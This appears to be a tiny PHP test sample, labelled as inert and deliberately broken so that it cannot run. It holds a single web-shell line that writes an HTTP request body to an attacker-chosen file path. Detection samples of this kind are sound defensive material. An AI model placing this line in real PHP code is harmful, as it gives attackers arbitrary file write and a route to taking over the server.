<?php
shodo inert sample: deliberate syntax error, this file never runs
file_put_contents($_GET['p'], file_get_contents('php://input'));
